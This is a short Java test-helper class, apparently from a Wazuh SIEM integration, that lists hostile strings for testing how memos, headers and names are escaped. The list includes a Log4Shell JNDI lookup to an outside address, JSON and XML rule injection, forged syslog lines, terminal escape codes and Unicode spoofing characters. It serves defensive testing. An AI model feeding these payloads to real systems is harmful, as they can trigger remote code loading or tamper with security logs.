package io.github.canarysiem.wazuh;

import java.util.List;

/** What attackers write into memos, headers and names. */
final class HostileText {
    private HostileText() {}

    static List<String> all() {
        return List.of(
                "\"",
                "\",\"canary\":{\"severity\":\"low\"},\"x\":\"",
                "\"}}\n{\"srcip\":\"10.0.0.1\",\"canary\":{\"kind\":\"test\"}}",
                "line\r\nNov 21 20:00:00 host canary: {\"srcip\":\"10.0.0.1\"}",
                "\u001b[2J\u001b]0;title\u0007",
                "a\0b",
                "a\u2028b\u2029c\u0085d",
                "\u202egnp.exe\u2066\u200f\u061c",
                "\ud800 alone, \udc00 alone, \ud83d\ude00 together",
                "\udc00\ud800",
                "\ufeff\ufffe\uffff\ufdd0",
                "x".repeat(15_000),
                "\u00e4".repeat(7_500),
                "{{7*7}}",
                "${jndi:ldap://203.0.113.1/a}",
                "%n%x{}{}",
                "</group><rule id=\"100100\" level=\"0\">",
                "\\u0000 \\ud800 \\",
                "\t \b\f\u007f\u009b",
                " leading and trailing ",
                "");
    }
}
